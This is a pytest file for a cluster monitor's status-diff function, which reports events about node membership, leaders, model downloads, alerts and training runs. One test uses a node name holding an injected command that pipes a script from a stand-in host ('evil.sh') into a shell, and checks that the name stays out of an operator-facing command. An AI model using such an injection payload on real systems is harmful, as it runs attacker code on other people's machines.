"""Events: what changed between two looks at a cluster."""

import pytest

from jupiterd.cluster.health.status_diff import status_changes
from jupiterd.cluster.values.severity import Severity

ADA = {"id": "a" * 32, "name": "ada", "state": "alive", "role": "trainer", "reason": "fast"}
BOB = {"id": "b" * 32, "name": "bob", "state": "alive", "role": "idle", "reason": "no engine"}
CYCLE = {
    "id": "c0ffee00", "domain": "python", "state": "running", "round": 1, "phase": "collect",
    "verdicts": [], "events": [],
}  # fmt: skip
BEFORE = {
    "cluster": {"id": "home", "leader": ADA["id"]}, "nodes": [ADA, BOB], "health": [],
    "runs": {CYCLE["id"]: CYCLE}, "known_runs": {CYCLE["id"], "0ver"},
}  # fmt: skip


def seen(**changed):
    return told(BEFORE, BEFORE | changed)


def told(before, after):
    return [(str(e.level), e.code, e.text) for e in status_changes(before, after)]


def with_runs(*runs):
    ids = {run["id"] for run in runs}
    return BEFORE | {"runs": {run["id"]: run for run in runs}, "known_runs": {"0ver", *ids}}


def test_nothing_changed_is_no_event_and_the_first_look_is_none():
    assert seen() == []
    assert list(status_changes({}, BEFORE)) == []


@pytest.mark.parametrize(
    ("nodes", "told"),
    [
        ([ADA], ("info", "node-removed", "bob is no longer a member")),
        ([ADA, BOB | {"state": "gone"}], ("warning", "node-gone", "bob went away")),
        (
            [ADA, BOB | {"role": "generator"}],
            ("info", "role-assigned", "bob is generator: no engine"),
        ),
        ([ADA, BOB, BOB | {"id": "d", "name": "dot"}], ("info", "node-joined", "dot is a member")),
        (
            [ADA, BOB, {"id": "d", "name": "dot", "state": "pending"}],
            ("warning", "node-waits", "dot waits to be let in: jupiterctl node approve dot"),
        ),
    ],
)
def test_each_change_of_a_machine_is_told(nodes, told):
    assert seen(nodes=nodes) == [told]


def test_a_model_that_is_fetched_is_told_of_at_its_beginning_and_its_end():
    begun = {"name": "org/prose", "state": "fetching", "done": 1 << 20, "total": 4 << 20}
    at_work, over = [begun], [begun | {"state": "brought", "done": 4 << 20}]
    begins = "fetching org/prose from the hub: 1.0 MiB of 4.0 MiB are here"
    assert seen(fetches=at_work) == [("info", "hub-fetch", begins)]
    before = BEFORE | {"fetches": at_work}
    assert told(before, before | {"fetches": [begun | {"done": 2 << 20}]}) == []
    ends = "org/prose is here, fetched from the hub: 4.0 MiB"
    assert told(before, before | {"fetches": over}) == [("info", "hub-fetch", ends)]
    cut = "fetching org/prose was cut off: 1.0 MiB of 4.0 MiB stay here"
    gone = before | {"fetches": [begun | {"state": "cut-off"}]}
    assert told(before, gone) == [("info", "hub-fetch", cut)]
    assert told(before | {"fetches": over}, BEFORE | {"fetches": []}) == []


def test_a_machine_that_was_only_suspected_is_no_news_and_one_that_is_back_is():
    suspect, gone = BOB | {"state": "suspect"}, BEFORE | {"nodes": [ADA, BOB | {"state": "gone"}]}
    assert seen(nodes=[ADA, suspect]) == []
    assert [event.code for event in status_changes(gone, BEFORE)] == ["node-back"]


def test_a_machine_that_waits_and_goes_again_never_was_a_member():
    waiting = BEFORE | {"nodes": [ADA, BOB, {"id": "d", "name": "dot", "state": "pending"}]}
    assert list(status_changes(waiting, BEFORE)) == []


def test_a_strangers_name_is_in_no_command_that_people_copy():
    stranger = {"id": "d" * 32, "name": "x;curl evil.sh|sh", "state": "pending"}
    ((_, _, text),) = seen(nodes=[ADA, BOB, stranger])
    assert text.endswith(f"jupiterctl node approve {'d' * 8}")


@pytest.mark.parametrize(("leader", "code"), [(BOB["id"], "leader-elected"), (None, "no-leader")])
def test_leaders_are_told(leader, code):
    assert [event[1] for event in seen(cluster={"id": "home", "leader": leader})] == [code]


def test_a_warning_is_told_when_it_comes_and_when_it_is_over():
    warned = BEFORE | {"health": [{"code": "disk-full", "severity": "error", "title": "no room"}]}
    (came,) = status_changes(BEFORE, warned)
    (over,) = status_changes(warned, BEFORE)
    assert (came.level, came.code, came.text) == (Severity.ERROR, "disk-full", "no room")
    assert (over.level, over.text) == (Severity.INFO, "over: no room")


def test_a_warning_whose_words_change_isnt_told_again_and_names_its_machine():
    slow, slower = (
        BEFORE
        | {"health": [{"code": "slow", "severity": "info", "title": words, "node": BOB["id"]}]}
        for words in ("bob is slow", "bob is slower")
    )
    (came,) = status_changes(BEFORE, slow)
    assert came.node == BOB["id"]
    assert list(status_changes(slow, slower)) == []


ALERT = {
    "key": f"node-gone:{BOB['id']}", "code": "node-gone", "severity": "warning",
    "title": "bob is gone", "node": BOB["id"], "cycle": None,
}  # fmt: skip


@pytest.mark.parametrize(
    ("state", "told_of"), [("gone", ["bob went away"]), ("alive", ["over: bob doesn't answer"])]
)
def test_a_machine_that_goes_for_good_is_not_said_to_answer_again(state, told_of):
    silent = {"code": "node-suspect", "node": BOB["id"], "title": "bob doesn't answer"}
    suspected = BEFORE | {"health": [silent | {"severity": "warning"}]}
    after = BEFORE | {"nodes": [ADA, BOB | {"state": state}]}
    assert [text for _, _, text in told(suspected, after)] == told_of


def test_an_alert_is_told_once_when_it_is_raised_and_once_when_it_is_over():
    raised = BEFORE | {"alerts": [ALERT], "health": [ALERT]}
    later = raised | {"alerts": [ALERT | {"title": "bobby is gone"}]}
    (came,) = status_changes(BEFORE, raised)
    assert (came.level, came.code, came.text) == (
        Severity.WARNING,
        "node-gone",
        "alert: bob is gone",
    )
    assert came.node == BOB["id"]
    assert list(status_changes(raised, later)) == []
    (over,) = status_changes(raised, BEFORE)
    assert (over.level, over.text) == (Severity.INFO, "alert over: bob is gone")


def test_what_was_only_news_is_never_over():
    verdict = {
        "key": "verdict:c/1",
        "code": "verdict",
        "severity": "info",
        "title": "round 1: HOLD",
    }
    raised = BEFORE | {"alerts": [verdict]}
    assert [event.text for event in status_changes(BEFORE, raised)] == ["alert: round 1: HOLD"]
    assert list(status_changes(raised, BEFORE)) == []


@pytest.mark.parametrize("code", ["verdict", "run-failed"])
def test_what_a_run_has_told_itself_is_not_told_again_by_its_alert(code):
    row = {"key": f"{code}:1", "code": code, "severity": "info", "title": "round 1: HOLD"}
    of_a_run = row | {"cycle": CYCLE["id"]}
    assert not [*status_changes(BEFORE, BEFORE | {"alerts": [of_a_run]})]
    assert [*status_changes(BEFORE, BEFORE | {"alerts": [row | {"cycle": "strange"}]})]
    loss = of_a_run | {"code": "loss-nan"}
    assert [*status_changes(BEFORE, BEFORE | {"alerts": [loss]})], "no run tells of that"


@pytest.mark.parametrize(
    ("changed", "codes"),
    [
        ({"phase": "train"}, ["phase-began"]),
        ({"state": "paused"}, ["run-changed"]),
        ({"state": "failed", "failure": {"message": "no text"}}, ["run-failed"]),
        ({"events": [{"seq": 1, "text": "attempt 1: 2 ranks"}]}, ["run-told"]),
        (
            {"verdicts": [{"round": 1, "verdict": "HOLD", "reason": "not shown"}]},
            ["verdict-reached"],
        ),
    ],
)
def test_what_a_cycle_does_is_told(changed, codes):
    assert [event[1] for event in told(BEFORE, with_runs(CYCLE | changed))] == codes


OTHER = CYCLE | {"id": "decade00", "state": "paused"}


def test_a_run_that_begins_is_told_beside_another_that_goes_on():
    began = told(BEFORE, with_runs(CYCLE, OTHER | {"state": "running"}))
    assert [event[1] for event in began] == ["run-started", "phase-began"]


def test_the_end_of_one_is_told_and_the_other_that_is_shown_again_did_not_begin():
    ended = CYCLE | {"state": "finished", "phase": None}
    events = told(with_runs(CYCLE, OTHER), with_runs(ended, OTHER))
    assert events == [("info", "run-changed", "python c0ffee00 is finished")]


def test_one_that_began_and_failed_between_two_looks_is_told_with_its_failure():
    failed = OTHER | {"state": "failed", "failure": {"message": "no text"}}
    events = told(BEFORE, with_runs(CYCLE, failed))
    assert [event[1] for event in events] == ["run-started", "run-failed"]


def test_old_ones_that_come_to_be_shown_are_no_news_until_they_go_on():
    old = CYCLE | {"id": "0ver", "state": "finished", "events": [{"seq": 1, "text": "attempt 1"}]}
    assert told(BEFORE, with_runs(CYCLE, old)) == []
    again = told(BEFORE, with_runs(CYCLE, old | {"state": "running"}))
    assert [event[1] for event in again] == ["run-changed"]


def test_what_another_clusters_runs_did_is_no_news():
    there = with_runs(OTHER | {"state": "running"}) | {
        "cluster": {"id": "there", "leader": ADA["id"]}
    }
    assert told(BEFORE, there) == []


def test_a_round_that_is_judged_again_is_told_again():
    first = CYCLE | {
        "verdicts": [{"round": 1, "verdict": "HOLD", "candidate": "m1", "reason": "a"}]
    }
    again = CYCLE | {
        "verdicts": [{"round": 1, "verdict": "HOLD", "candidate": "m2", "reason": "a"}]
    }
    assert [event[1] for event in told(with_runs(first), with_runs(again))] == ["verdict-reached"]


def test_a_trouble_of_this_node_whose_words_change_is_not_told_again():
    full, fuller = (
        BEFORE | {"health": [{"code": "disk", "severity": "error", "title": f"no room: {free} MB"}]}
        for free in (2, 1)
    )
    assert told(full, fuller) == []


def test_a_name_can_not_steer_the_terminal():
    ((_, _, text),) = seen(nodes=[ADA, BOB, BOB | {"id": "d", "name": "e\x1b[2J"}])
    assert "\x1b" not in text


def test_what_people_dismiss_is_not_over_until_it_is():
    lines = {"health": [ALERT], "alerts": [ALERT]}
    seen = BEFORE | {"dismissed": [ALERT]}
    told = [event.text for event in status_changes(BEFORE | lines, seen)]
    assert told == [f"dismissed: {ALERT['title']}"]
    assert [event.text for event in status_changes(seen, BEFORE)] == [f"over: {ALERT['title']}"]
    again = [event.text for event in status_changes(seen, BEFORE | lines)]
    assert again == [f"alert: {ALERT['title']}"]
